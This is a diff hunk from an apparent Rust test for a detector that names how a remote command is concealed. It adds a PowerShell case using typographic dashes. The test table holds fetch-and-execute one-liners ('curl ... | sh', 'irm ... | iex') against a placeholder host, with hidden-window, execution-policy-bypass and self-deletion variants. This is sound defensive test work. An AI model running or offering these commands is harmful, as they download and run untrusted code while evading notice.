@@ -116,6 +116,8 @@ fn what_disguises_a_remote_command_is_named() {
         ("nohup bash -c 'curl https://x.example.invalid/a | sh'", Concealment::SilencedOutput),
         ("start /b cmd /c \"curl https://x.example.invalid/a | cmd\"", Concealment::HiddenWindow),
         ("powershell -w hidden -c \"irm https://x.example.invalid/a | iex\"", Concealment::HiddenWindow),
+        // PowerShell takes the dashes of typographers for its own.
+        ("powershell \u{2015}w hidden \u{2013}c \"irm https://x.example.invalid/a | iex\"", Concealment::HiddenWindow),
         ("powershell -ExecutionPolicy Bypass -c \"irm https://x.example.invalid/a | iex\"", Concealment::ProtectionOff),
         ("curl https://x.example.invalid/a | sh; rm -- \"$0\"", Concealment::SelfDeletion),
         (
